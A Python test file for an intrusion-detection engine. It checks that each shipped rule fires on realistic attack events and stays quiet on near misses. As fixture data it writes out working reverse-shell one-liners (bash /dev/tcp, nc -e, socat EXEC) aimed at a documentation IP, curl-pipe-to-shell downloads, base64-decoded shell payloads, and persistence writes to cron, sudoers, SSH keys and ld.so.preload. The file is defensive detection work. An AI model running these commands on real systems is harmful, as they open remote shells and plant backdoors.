"""Every rule shipped in controller/rules fires on a realistic event and not on a near miss."""

from __future__ import annotations

import base64

import pytest

from backplane.schema import Action
from controller.detection import DetectionEngine


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# rule title → (events that must fire it, near misses that must not), built from the `ev` fixture
CASES = {
    "Shell Redirected To A /dev/tcp Or /dev/udp Socket": lambda ev: (
        [
            ev.exec("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            ev.exec("/usr/bin/bash", "bash -c exec 5<>/dev/tcp/203.0.113.9/80"),
            ev.exec("/usr/bin/sh", "sh -c 0<&196;exec 196<>/dev/UDP/203.0.113.9/53"),
        ],
        [
            ev.exec("/usr/bin/bash", "bash -c timeout 1 bash -c 'cat < /dev/null' /dev/tcp/"),
            ev.exec("/usr/bin/grep", "grep -r /dev/tcp/ /usr/share/doc"),
            ev.exec("/usr/bin/bash", "bash -i >& /tmp/log 0>&1"),
        ],
    ),
    "Netcat Or Socat Attaching A Shell To A Connection": lambda ev: (
        [
            ev.exec("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"),
            ev.exec("/usr/bin/ncat", "ncat --sh-exec 'bash -i' -l 9001"),
            ev.exec("/usr/bin/nc.traditional", "nc.traditional -lvp 4444 -e /bin/bash"),
            ev.exec("/usr/bin/socat", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr"),
        ],
        [
            ev.exec("/usr/bin/nc", "nc -zv 203.0.113.9 22"),
            ev.exec("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"),
            ev.exec("/usr/bin/python3", "python3 -c print(1) -e x"),
        ],
    ),
    "Download Piped Straight Into A Shell": lambda ev: (
        [
            ev.exec("/usr/bin/bash", "bash -c curl -fsSL https://get.example.sh | sh"),
            ev.exec("/usr/bin/sh", "sh -c wget -qO- http://203.0.113.9/x | sudo -E bash -s"),
            ev.exec("/usr/bin/sh", "sh -c curl -s http://x/i | /bin/bash"),
        ],
        [
            ev.exec("/usr/bin/bash", "bash -c curl -fsSL https://example.org/a | shasum -a 256"),
            ev.exec("/usr/bin/bash", "bash -c curl -o install.sh https://example.org/i.sh"),
            ev.exec("/usr/bin/bash", "bash -c cat notes | sh"),
        ],
    ),
    "File In A World-Writable Directory Made Executable": lambda ev: (
        [
            ev.exec("/usr/bin/chmod", "chmod +x /tmp/.x/payload"),
            ev.exec("/bin/chmod", "chmod 755 /dev/shm/kworker"),
            ev.exec("/usr/bin/chmod", "chmod u+rwx /var/tmp/agent"),
        ],
        [
            ev.exec("/usr/bin/chmod", "chmod +x /home/alice/bin/tool"),
            ev.exec("/usr/bin/chmod", "chmod 644 /tmp/notes.txt"),
            ev.exec("/usr/bin/chown", "chown root /tmp/+x"),
        ],
    ),
    "Program Executed From /tmp Or /var/tmp": lambda ev: (
        [
            ev.exec("/tmp/.x/payload", "/tmp/.x/payload --daemon"),
            ev.exec("/var/tmp/kdevtmpfsi", parent_image="/usr/bin/sh"),
        ],
        [
            ev.exec("/tmp/build-42/conftest", parent_image="/usr/bin/make"),
            ev.exec("/tmp/pytest-of-root/pytest-1/bin/helper"),
            ev.exec("/usr/bin/tmp/tool"),
        ],
    ),
    "Program Executed From /dev/shm": lambda ev: (
        [
            ev.exec("/dev/shm/.k/kworker"),
            ev.exec("/usr/bin/python3", "./run.py", cwd="/dev/shm/x"),
        ],
        [
            ev.exec("/usr/bin/ls", "ls /dev/shm"),
            ev.exec("/usr/bin/python3", "python3 ./run.py", cwd="/dev/shm"),
            ev.exec("/usr/bin/python3", "./run.py", cwd="/home/alice"),
        ],
    ),
    "Cron Configuration Written": lambda ev: (
        [
            ev.file("/etc/cron.d/backdoor", Action.FILE_CREATE, image="/usr/bin/bash"),
            ev.file("/etc/crontab", Action.FILE_WRITE, image="/usr/bin/vim"),
            ev.file("/var/spool/cron/crontabs/root", Action.FILE_RENAME, image="/usr/bin/crontab"),
        ],
        [
            ev.file("/etc/cron.daily/logrotate", Action.FILE_CREATE, image="/usr/bin/dpkg"),
            ev.file("/etc/crontab.bak", Action.FILE_WRITE, image="/usr/bin/vim"),
            ev.file("/etc/cron.d/backdoor", Action.FILE_DELETE, image="/usr/bin/rm"),
        ],
    ),
    "Sudoers Policy Written": lambda ev: (
        [
            ev.file("/etc/sudoers", Action.FILE_WRITE, image="/usr/bin/tee"),
            ev.file("/etc/sudoers.d/99-nopasswd", Action.FILE_CREATE, image="/usr/bin/bash"),
        ],
        [
            ev.file("/etc/sudoers.d/README", Action.FILE_CREATE, image="/usr/bin/dpkg"),
            ev.file("/etc/sudoers.bak", Action.FILE_WRITE, image="/usr/bin/cp"),
            ev.file("/etc/sudoers", Action.FILE_OPEN, image="/usr/bin/sudo"),
        ],
    ),
    "SSH Authorized Keys Written": lambda ev: (
        [
            ev.file("/root/.ssh/authorized_keys", Action.FILE_WRITE, image="/usr/bin/bash"),
            ev.file("/home/bob/.ssh/authorized_keys2", Action.FILE_CREATE),
        ],
        [
            ev.file("/home/bob/.ssh/known_hosts", Action.FILE_WRITE, image="/usr/bin/ssh"),
            ev.file("/home/bob/.ssh/authorized_keys.bak", Action.FILE_CREATE),
            ev.file("/root/.ssh/authorized_keys", Action.FILE_OPEN, image="/usr/sbin/sshd"),
        ],
    ),
    "Base64-Decoded Payload Run By A Shell Or Interpreter": lambda ev: (
        [
            ev.exec("/usr/bin/bash", f"bash -c echo {b64('id; uname -a')} | base64 -d | bash"),
            ev.exec("/usr/bin/python3", "python3 -c import base64;exec(base64.b64decode('aWQ='))"),
            ev.exec("/usr/bin/sh", f"sh -c echo {b64('x; bash -i >& /dev/tcp/1.2.3.4/9 0>&1')}"),
        ],
        [
            ev.exec("/usr/bin/bash", "bash -c base64 -d cert.b64 > cert.pem"),
            ev.exec("/usr/bin/python3", "python3 -c import base64;print(base64.b64decode('aWQ='))"),
            ev.exec("/usr/bin/sh", f"sh -c echo {b64('hello world, nothing to see')}"),
        ],
    ),
    "Shell Opening An Outbound Connection To An Unusual Port": lambda ev: (
        [
            ev.net("203.0.113.9", 4444, image="/usr/bin/bash"),
            ev.net("2001:db8::9", 9001, image="/bin/sh"),
        ],
        [
            ev.net("203.0.113.9", 443, image="/usr/bin/bash"),
            ev.net("127.0.0.1", 4444, image="/usr/bin/bash"),
            ev.net("::1", 4444, image="/usr/bin/zsh"),
            ev.net("203.0.113.9", 4444, image="/usr/bin/python3"),
            ev.net("203.0.113.9", 4444, image="/usr/bin/bash", action=Action.ACCEPT),
        ],
    ),
    "Dynamic Linker Preload File Written": lambda ev: (
        [
            ev.file("/etc/ld.so.preload", Action.FILE_WRITE, image="/usr/bin/bash"),
            ev.file("/etc/ld.so.preload", Action.FILE_RENAME, original="/tmp/p"),
        ],
        [
            ev.file("/etc/ld.so.conf.d/x.conf", Action.FILE_WRITE),
            ev.file("/etc/ld.so.preload", Action.FILE_OPEN),
            ev.exec("/usr/bin/cat", "cat /etc/ld.so.preload"),
        ],
    ),
}


@pytest.fixture(scope="module")
def builtin() -> DetectionEngine:
    engine = DetectionEngine()
    report = engine.load([])
    assert report.ok, [str(p) for p in report.problems]
    return engine


def test_every_shipped_rule_has_cases(builtin):
    assert {r.title for r in builtin.rules} == set(CASES)
    assert len(CASES) >= 10
    for rule in builtin.rules:
        assert rule.tags and rule.description and rule.level in {"medium", "high", "critical"}


@pytest.mark.parametrize("title", sorted(CASES))
def test_rule_fires_and_near_misses_do_not(builtin, ev, title):
    hits, misses = CASES[title](ev)
    for event in hits:
        titles = [m.title for m in builtin.match(event)]
        assert title in titles, (event.get("process"), event.get("file"), event.get("destination"))
    for event in misses:
        titles = [m.title for m in builtin.match(event)]
        assert title not in titles, (
            event.get("process"),
            event.get("file"),
            event.get("destination"),
        )
